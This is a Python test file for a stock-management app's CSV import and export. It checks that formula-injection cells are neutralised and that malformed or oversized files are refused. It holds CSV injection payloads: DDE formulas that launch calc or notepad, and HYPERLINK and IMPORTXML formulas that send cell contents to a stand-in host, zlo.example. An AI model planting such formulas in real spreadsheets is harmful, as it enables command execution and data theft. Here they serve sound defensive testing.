"""Hostile CSV files: formula injection, invalid UTF-8, 1 MB lines (hypothesis).

An import either refuses the file with a sentence (and changes nothing), or stores
the cells as plain text; an export never writes a cell a spreadsheet would run as a
formula (one starting with = + - @, a tab or a carriage return gets an apostrophe),
and importing that export gives back exactly what was stored.
"""
from __future__ import annotations

import csv

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.models import Location, StockItem, StockLevel
from core.stock_admin import add_location
from core.stock_csv import CsvFileError, apply_import, export_csv, read_import


SETTINGS = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://zlo.example/?"&A1,"Kliknij")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://zlo.example/?\",A1),\"//a\")",
    "'=already quoted",
    "-5",
]
CELL = st.one_of(
    st.sampled_from(INJECTIONS),
    st.builds(lambda start, rest: start + rest, st.sampled_from("=+-@"),
              st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=40)),
    st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=40),
).map(str.strip).filter(bool)


@pytest.fixture
def shop(db):
    add_location("Magazyn")
    return db


def stock() -> list[tuple]:
    return sorted(
        (i.sku, i.title, i.barcode, lvl.location.name, lvl.quantity)
        for i in StockItem.select()
        for lvl in StockLevel.select().where(StockLevel.item == i)
    )


def write_rows(path, rows) -> None:
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["sku", "title", "location", "quantity", "barcode"])
        writer.writerows(rows)


def is_formula(cell: str) -> bool:
    return bool(cell) and cell[0] in FORMULA_STARTS


@SETTINGS
@given(rows=st.lists(st.tuples(CELL.filter(lambda s: len(s) <= 100), CELL, CELL.filter(lambda s: len(s) <= 64),
                               st.integers(0, 10**6)),
                     min_size=1, max_size=8, unique_by=lambda r: r[0]))
def test_formula_cells_import_as_text_and_export_neutralised(shop, tmp_path_factory, rows):
    folder = tmp_path_factory.mktemp("csv")
    StockLevel.delete().execute()
    StockItem.delete().execute()
    source = folder / "in.csv"
    write_rows(source, [(sku, title, "Magazyn", qty, barcode) for sku, title, qty, barcode in
                        ((r[0], r[1], r[3], r[2]) for r in rows)])
    preview = read_import(source)
    assert preview.ok, preview.problems
    apply_import(preview)
    stored = stock()
    out = folder / "out.csv"
    export_csv(out)
    cells = [cell for row in csv.reader(out.read_text(encoding="utf-8-sig").splitlines(keepends=True)) for cell in row]
    assert not [c for c in cells if is_formula(c)], "a formula reached the export"
    # the export imports back to exactly what was stored
    again = read_import(out)
    assert again.ok and again.changed_levels == 0 and again.new_items == 0
    assert sorted((r.sku, r.title, r.barcode, r.location, r.quantity) for r in again.rows) == stored


def test_a_formula_location_name_is_neutralised_on_export_too(shop, tmp_path):
    evil = add_location("=cmd|' /C calc'!A0")
    item = StockItem.create(sku="@SKU", title="-Kubek", barcode="+48")
    StockLevel.create(item=item, location=evil, quantity=1)
    export_csv(tmp_path / "out.csv")
    rows = list(csv.reader((tmp_path / "out.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert rows[1] == ["'@SKU", "'-Kubek", "'=cmd|' /C calc'!A0", "1", "'+48", "0", "1"]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("sku,title,quantity\nA-1,Łyżka,1\n".encode("cp1250"), "is not UTF-8 text (line 2"),
        (b"sku,title,quantity\nA-1,\xff\xfe\x00zz,1\n", "is not UTF-8 text (line 2"),
        (b"sku,title,quantity\nA-1," + b"x" * 1_048_576 + b",1\n", "Line 2 of hostile.csv is longer than"),
        (b"sku,title,quantity\nA-1,\"" + (b"y" * 4000 + b"\n") * 260 + b"\",1\n", "cannot be read as CSV"),
        (b"sku,title,quantity\nA-1,ok\x00,1\n", "contains a NUL byte"),
        (b"\xef\xbb\xbf", "is empty"),
        (b"=cmd|' /C calc'!A0,x\n1,2\n", "has no sku or quantity column"),
    ],
)
def test_a_hostile_file_is_refused_by_the_command_with_a_sentence_and_nothing_changes(
        command, tmp_path, content, said):
    code, out, err = command("stock", "import", "hostile.csv")  # makes the data folder's database
    assert code == 1 and "cannot be read" in err  # no such file yet: refused too
    add_location("Magazyn")
    item = StockItem.create(sku="A-1", title="Łyżka")
    StockLevel.create(item=item, location=Location.get(), quantity=7)
    (tmp_path / "hostile.csv").write_bytes(content)
    before = stock()
    code, out, err = command("stock", "import", "hostile.csv")
    assert code == 1 and said in err, err
    assert "Traceback" not in err and len(err) < 2000  # the sentence, not the file
    assert stock() == before


def test_a_1_mb_line_is_refused_before_anything_is_read_as_rows(shop, tmp_path):
    path = tmp_path / "big.csv"
    path.write_text("sku,title,quantity\n" + "A-1," + "=" * 1_048_576 + ",1\n", encoding="utf-8")
    with pytest.raises(CsvFileError) as refused:
        read_import(path)
    assert "longer than" in refused.value.message and len(refused.value.message) < 300
    assert StockItem.select().count() == 0
